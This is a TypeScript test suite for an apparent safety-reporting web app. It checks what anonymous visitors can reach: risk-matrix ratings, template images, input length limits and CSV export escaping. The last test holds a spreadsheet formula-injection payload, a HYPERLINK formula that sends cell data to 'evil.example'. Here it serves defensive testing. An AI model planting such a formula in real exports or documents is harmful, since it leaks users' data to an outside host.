import type { RiskMatrix } from '@safety-qube/contract/schemas/custom-fields';
import type { TemplateImage } from '@safety-qube/contract/schemas/template-content';
import { rateRisk } from '@safety-qube/domain/records/risk';
import { question, section, template } from '@safety-qube/domain/templates/templates.factory';
import { parse } from 'csv-parse/sync';
import sharp from 'sharp';
import { beforeAll, expect, test } from 'vitest';
import { type Person, useTestApp } from '../../testing/test-app.ts';
import { type PosterOf, reportWithoutName, someClaim, visitorCalls } from '../../testing/visitors.ts';
import { askNow } from '../exports/exports.factory.ts';
import { addFacility } from '../people/people.factory.ts';
import { publishForm } from '../posters/posters.factory.ts';

const t = useTestApp();
const acme = () => t.tenants.acme;
const db = () => t.database.forTenant(acme().id);
const v = () => visitorCalls(t);
let admin: Person;
let facilityId: number;
const images = {} as Record<'incident' | 'team' | 'inspection' | 'other', TemplateImage>;
const forms = { incident: 0, inspection: 0 };
const posters = {} as Record<keyof typeof forms, PosterOf>;

const manage = async (request: string, payload?: object) => {
  const answer = await t.call('acme', request, { as: admin, ...(payload && { payload }) });
  if (answer.statusCode >= 300) throw new Error(answer.body);
  return answer.json();
};
async function keepImage(background: string): Promise<TemplateImage> {
  const bytes = await sharp({ create: { width: 40, height: 30, channels: 3, background } })
    .png()
    .toBuffer();
  return manage('POST /api/templates/images', { image: `data:image/png;base64,${bytes.toString('base64')}` });
}
const questions = (image: TemplateImage) => [
  question('instruction', 'how', { image }),
  question('risk-rating', 'risk', { required: true }),
  question('table', 'bays', { columns: [{ id: 'bay', type: 'short-text', text: { en: 'Bay' }, required: true }] }),
];

beforeAll(async () => {
  admin = await t.person(acme(), 'administrator');
  facilityId = await addFacility(t, acme(), 'Boston Yard');
  for (const [name, colour] of [
    ['incident', 'teal'],
    ['team', 'navy'],
    ['inspection', 'plum'],
    ['other', 'gold'],
  ] as const)
    images[name] = await keepImage(colour);
  const asked = { ...section('s', questions(images.incident)), askedOf: 'reporter' as const };
  const teams = section('team', [question('instruction', 'check', { image: images.team })]);
  forms.incident = await publishForm(
    t,
    admin,
    'incident',
    template([asked, teams], { eventTypes: ['nearMiss'], lists: [] }),
  );
  forms.inspection = await publishForm(
    t,
    admin,
    'inspection',
    template([section('s', questions(images.inspection))], { lists: [] }),
  );
  for (const module of ['incident', 'inspection'] as const) {
    const body = { targets: [{ facilityId }], templateIds: [forms[module]] };
    const [poster] = (await manage('POST /api/posters', body)).posters;
    posters[module] = { code: poster.code, scheduleId: poster.forms[0].scheduleId };
  }
});

const enter = (module: keyof typeof forms) => v().enter({ code: posters[module].code });
const matrixOf = async (token: string): Promise<RiskMatrix> =>
  (await v().send(token, 'GET /api/visit/risk-matrix')).json();
/** An answer as the page makes it of a cell. */
function cellOf(matrix: RiskMatrix, likelihood = 4, severity = 3): string {
  const labelOf = (list: RiskMatrix['likelihood'], value: number) => list.find((one) => one.value === value)?.label;
  const labels = {
    likelihoodLabel: labelOf(matrix.likelihood, likelihood),
    severityLabel: labelOf(matrix.severity, severity),
  };
  return JSON.stringify({ likelihood, severity, ...labels, ...rateRisk(matrix, likelihood, severity) });
}

test.each(['incident', 'inspection'] as const)(
  'the risk of an %s by code is rated in the tenant’s matrix, as signed-in people do it',
  async (module) => {
    const token = await enter(module);
    const matrix = await matrixOf(token);
    expect(matrix).toEqual(await manage('GET /api/cf/risklevelmap'));
    const send = (risk: string) =>
      v().report(token, {
        scheduleId: posters[module].scheduleId,
        ...(module === 'incident' && { description: 'A pallet fell' }),
        form: {
          templateId: forms[module],
          version: 1,
          answers: { risk: { value: risk }, bays: { value: [{ bay: 'North' }] } },
        },
        claim: someClaim(),
      });
    const value = cellOf(matrix);
    expect((await send(value)).statusCode).toBe(201);
    const saved = await db()
      .selectFrom('execution_answer')
      .innerJoin('execution', 'execution.id', 'execution_answer.execution_id')
      .select('answer')
      .where('template_id', '=', forms[module])
      .where('question_id', '=', 'risk')
      .executeTakeFirstOrThrow();
    expect(saved.answer).toEqual({ value });
    const wrong = await send(JSON.stringify({ ...JSON.parse(value), level: 'none' }));
    expect([wrong.statusCode, wrong.json().code]).toEqual([422, 'ANSWER_REFUSED']);
  },
);

test('the images of a poster’s forms are shown to its visitors, and no others', async () => {
  const token = await enter('inspection');
  const fetchImage = (image: TemplateImage, as = token) => v().send(as, `GET /api/visit/images/${image.id}`);
  const shown = await fetchImage(images.inspection);
  expect([shown.statusCode, shown.headers['content-type']]).toEqual([200, 'image/webp']);
  expect(shown.rawPayload.length).toBeGreaterThan(0);
  expect((await fetchImage(images.incident)).statusCode).toBe(404);
  expect((await fetchImage(images.other)).statusCode).toBe(404);
  const facilities = await manage('GET /api/fm/facility/fetch');
  const { reportCode } = facilities.find(({ id }: { id: number }) => id === facilityId);
  const ofFacility = await v().enter({ code: reportCode });
  expect((await fetchImage(images.incident, ofFacility)).statusCode).toBe(200);
  expect((await fetchImage(images.inspection, ofFacility)).statusCode).toBe(404);
});

test('the images of the part that the team fills in are not shown to visitors', async () => {
  const facilities = await manage('GET /api/fm/facility/fetch');
  const { reportCode } = facilities.find(({ id }: { id: number }) => id === facilityId);
  const shown = async (code: string, { id }: TemplateImage) =>
    (await v().send(await v().enter({ code }), `GET /api/visit/images/${id}`)).statusCode;
  for (const code of [posters.incident.code, reportCode])
    expect([await shown(code, images.incident), await shown(code, images.team)]).toEqual([200, 404]);
});

test('a claim opens neither matrix nor images', async () => {
  const { claim } = await reportWithoutName(t, facilityId, { type: 'issue', category: 'idea' });
  for (const path of ['risk-matrix', `images/${images.incident.id}`])
    expect((await v().claimed(claim, `GET /api/visit/${path}`)).statusCode).toBe(404);
});

test('10,000 words are refused in a sentence, and nothing is stored of them', async () => {
  const words = 'word '.repeat(10_000);
  const token = await enter('incident');
  const answer = await v().report(token, {
    scheduleId: posters.incident.scheduleId,
    description: words,
    claim: someClaim(),
  });
  expect([answer.statusCode, answer.json().code]).toEqual([400, 'INVALID_INPUT']);
  expect(answer.json().message).toMatch(/[a-z]+ .*\.$/);
});

test('what a visitor writes is a text in an exported file, also if it begins like a formula', async () => {
  const description = '=HYPERLINK("https://evil.example/?"&A1;"Details")';
  const { number } = await reportWithoutName(t, facilityId, { type: 'issue', category: 'idea', description });
  const { rawPayload } = await askNow(t, acme(), admin, { type: 'issue', query: `search=${number}` });
  const [, ...rows] = parse(rawPayload, { bom: true }) as string[][];
  expect(rows).toHaveLength(1);
  expect(rows[0]).toContain(`'${description}`);
  expect(rows.flat().filter((cell) => /^[=+@-]/.test(cell))).toEqual([]);
});
